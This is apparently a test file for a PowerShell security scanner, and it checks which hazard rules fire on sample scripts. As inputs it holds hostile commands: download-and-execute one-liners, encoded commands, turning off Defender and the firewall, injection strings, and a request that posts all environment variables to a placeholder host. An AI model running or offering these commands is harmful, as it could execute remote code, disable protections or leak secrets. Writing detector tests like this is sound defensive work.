import { expect, test } from 'vitest';
import { powerShellStatements } from '../../../../reviewers/changed-code/powershell/read-powershell.ts';
import { judgePowerShell } from '../../../../reviewers/security/powershell/judge-powershell.ts';

const said = (text: string): string[] =>
  judgePowerShell(text).hazards.map(({ rule, severity, lines }) => `${rule} ${severity ?? ''} ${lines[0] ?? 0}`);

test.each([
  ['iex ((New-Object Net.WebClient).DownloadString("https://x.example/a.ps1"))', ['downloaded-code warning 1']],
  ['# why\nInvoke-RestMethod https://x.example/a.ps1 |\n  Invoke-Expression', ['downloaded-code warning 2']],
  ['& ([scriptblock]::Create((irm https://x.example/a.ps1)))', ['downloaded-code warning 1']],
  ['irm https://get.scoop.sh | iex', ['downloaded-code suggestion 1']],
  ['powershell -NoProfile -enc SQBFAFgAIABoAGUAbABsAG8A', ['downloaded-code warning 1']],
  ['iwr http://x.example/a.exe -OutFile a.exe', ['downloaded-code warning 1']],
  ['iwr https://x.example/a.exe -OutFile $tool\n& $tool', ['downloaded-code suggestion 1']],
  ['iwr https://x.example/a.exe -OutFile $t\nif ((Get-FileHash $t).Hash -ne $h) { throw "x" }\n& $t', []],
  ['iwr https://x.example/a.zip -OutFile a.zip', []],
  ['param([string]$Name)\nInvoke-Expression "git checkout $Name"', ['code-injection suggestion 2']],
  ['$x = Get-Content names.txt\niex "build $x"', ['code-injection suggestion 2']],
  ['$tool = "git"\nInvoke-Expression "$tool status"', []],
  ["Invoke-Expression 'git status'", []],
  ['param($Name)\n& git checkout $Name', []],
  ['iex "tag $env:BUILD_SOURCEVERSIONMESSAGE"', ['code-injection warning 1']],
  ['param($d)\ncmd /c "rmdir $d"', ['command-injection suggestion 2']],
  [
    'param($n)\nInvoke-Sqlcmd -ServerInstance a -Query "DELETE FROM t WHERE n = \'$n\'"',
    ['sql-injection suggestion 2'],
  ],
  ['param($n)\nInvoke-Sqlcmd -Query \'DELETE FROM t WHERE n = $(n)\' -Variable "n=$n"', []],
  ['[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }', ['certificate-check-off warning 1']],
  ['Invoke-RestMethod https://a.example -SkipCertificateCheck', ['certificate-check-off warning 1']],
  ['Invoke-RestMethod https://localhost:8443 -SkipCertificateCheck', []],
  ['Set-ExecutionPolicy Unrestricted -Force', ['excessive-permissions suggestion 1']],
  ['Set-ExecutionPolicy Bypass -Scope Process -Force', []],
  ['icacls C:\\app /grant Everyone:F /T', ['excessive-permissions warning 1']],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', ['excessive-permissions warning 1']],
  ['Set-NetFirewallProfile -Profile Domain,Public -Enabled False', ['public-exposure warning 1']],
  ['$p = ConvertTo-SecureString "Winter2024!" -AsPlainText -Force', ['hard-coded-secret warning 1']],
  ['$p = ConvertTo-SecureString $env:PASS -AsPlainText -Force', []],
  ['irm https://x.example -Method Post -Body (Get-ChildItem env: | ConvertTo-Json)', ['secret-sent-away warning 1']],
  ['Write-Host "a # b"; $s = @"\niex $x\n"@\nWrite-Host $s', []],
])('%s', (text, expected) => {
  expect(said(text)).toEqual(expected);
});

test('leaves what does not close unjudged', () => {
  expect(judgePowerShell('if ($a) { "b').unread).toHaveLength(1);
});

test.each([
  '"'.repeat(20_001),
  '$('.repeat(20_000),
  `"${'$('.repeat(20_000)}`,
  '{'.repeat(20_000),
  'iex $a '.repeat(10_000),
])('ends on texts that are made to take long', (text) => {
  expect(powerShellStatements(text)?.length ?? 0).toBeLessThan(2);
  expect(judgePowerShell(text)).toBeDefined();
});
